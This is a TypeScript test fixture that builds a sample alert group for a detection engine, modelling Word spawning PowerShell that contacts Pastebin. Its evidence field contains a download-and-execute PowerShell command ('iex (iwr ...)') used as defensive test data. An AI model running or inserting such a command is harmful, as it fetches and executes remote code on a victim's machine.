import type { AlertGroup } from '../../lib/alert/index.ts';

/**
 * One PowerShell-to-Pastebin alert group as the engine builds it (the example): the key,
 * a count and one of each evidence kind. Overrides change the key.
 */
export function sampleGroup(overrides: Partial<AlertGroup['key']> = {}, count = 12): AlertGroup {
  return {
    key: {
      host: 'WKS-7',
      user: 'CORP\\jdoe',
      process: 'powershell.exe',
      domain: 'pastebin.com',
      ...overrides,
    },
    tier: 'high',
    count,
    firstSeen: Date.parse('2024-03-05T09:14:22.418Z'),
    lastSeen: Date.parse('2024-03-05T09:29:22.519Z'),
    evidence: {
      commandLines: ['powershell.exe -nop -c "iex (iwr https://pastebin.com/raw/x1)"'],
      parents: ['winword.exe'],
      processPaths: ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'],
      dstIps: ['104.20.67.143'],
      dstPorts: [443],
      kinds: ['dns', 'network'],
      sources: ['sysmon'],
      provenance: [{ origin: 's3://logs/sysmon/batch.xml.gz', record: 17 }],
    },
  };
}
